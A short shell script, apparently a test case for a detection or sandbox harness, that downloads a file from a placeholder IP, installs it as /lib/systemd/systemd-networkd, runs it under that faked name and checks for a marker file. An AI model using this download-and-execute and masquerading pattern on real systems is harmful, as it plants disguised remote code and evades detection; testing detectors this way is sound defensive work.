#!/bin/sh
. /opt/case/case.sh

mkdir -p /lib/systemd
curl -s http://203.0.113.10/programs/marker | install -m 755 /dev/stdin /lib/systemd/systemd-networkd
bash -c 'exec -a /lib/systemd/systemd-networkd /lib/systemd/systemd-networkd'
test -e /tmp/reached
took_place
